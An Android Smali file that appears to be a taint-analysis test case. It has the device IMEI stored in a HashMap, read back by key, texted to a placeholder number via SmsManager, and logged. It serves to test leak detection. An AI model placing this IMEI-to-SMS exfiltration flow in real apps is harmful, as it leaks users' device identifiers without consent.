.class public Lorg/apkscan/test/mapvalue/App;
.super Landroid/app/Application;

# The application keeps an event holding the IMEI in a map under a key;
# one method reads it back by key and texts its id, another logs the id
# of every value.

.field pending:Ljava/util/HashMap;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Application;-><init>()V
    return-void
.end method

.method public onCreate()V
    .registers 5
    invoke-super {p0}, Landroid/app/Application;->onCreate()V
    new-instance v0, Ljava/util/HashMap;
    invoke-direct {v0}, Ljava/util/HashMap;-><init>()V
    iput-object v0, p0, Lorg/apkscan/test/mapvalue/App;->pending:Ljava/util/HashMap;
    const-string v1, "phone"
    invoke-virtual {p0, v1}, Lorg/apkscan/test/mapvalue/App;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v1
    check-cast v1, Landroid/telephony/TelephonyManager;
    invoke-virtual {v1}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v1
    new-instance v2, Lorg/apkscan/test/mapvalue/IdEvent;
    invoke-direct {v2, v1}, Lorg/apkscan/test/mapvalue/IdEvent;-><init>(Ljava/lang/String;)V
    invoke-virtual {p0, v2}, Lorg/apkscan/test/mapvalue/App;->remember(Lorg/apkscan/test/mapvalue/IdEvent;)V
    invoke-virtual {p0}, Lorg/apkscan/test/mapvalue/App;->byKey()V
    invoke-virtual {p0}, Lorg/apkscan/test/mapvalue/App;->all()V
    return-void
.end method

.method remember(Lorg/apkscan/test/mapvalue/IdEvent;)V
    .registers 4
    iget-object v0, p0, Lorg/apkscan/test/mapvalue/App;->pending:Ljava/util/HashMap;
    const-string v1, "e1"
    invoke-virtual {v0, v1, p1}, Ljava/util/HashMap;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
    return-void
.end method

.method byKey()V
    .registers 8
    iget-object v0, p0, Lorg/apkscan/test/mapvalue/App;->pending:Ljava/util/HashMap;
    const-string v1, "e1"
    invoke-virtual {v0, v1}, Ljava/util/HashMap;->get(Ljava/lang/Object;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Lorg/apkscan/test/mapvalue/IdEvent;
    iget-object v3, v0, Lorg/apkscan/test/mapvalue/IdEvent;->id:Ljava/lang/String;
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    const-string v1, "+49 1234"
    const/4 v2, 0
    const/4 v4, 0
    const/4 v5, 0
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method

.method all()V
    .registers 4
    iget-object v0, p0, Lorg/apkscan/test/mapvalue/App;->pending:Ljava/util/HashMap;
    invoke-virtual {v0}, Ljava/util/HashMap;->values()Ljava/util/Collection;
    move-result-object v0
    invoke-interface {v0}, Ljava/util/Collection;->iterator()Ljava/util/Iterator;
    move-result-object v0
    :loop
    invoke-interface {v0}, Ljava/util/Iterator;->hasNext()Z
    move-result v1
    if-eqz v1, :end
    invoke-interface {v0}, Ljava/util/Iterator;->next()Ljava/lang/Object;
    move-result-object v1
    check-cast v1, Lorg/apkscan/test/mapvalue/IdEvent;
    iget-object v1, v1, Lorg/apkscan/test/mapvalue/IdEvent;->id:Ljava/lang/String;
    const-string v2, "all"
    invoke-static {v2, v1}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    goto :loop
    :end
    return-void
.end method
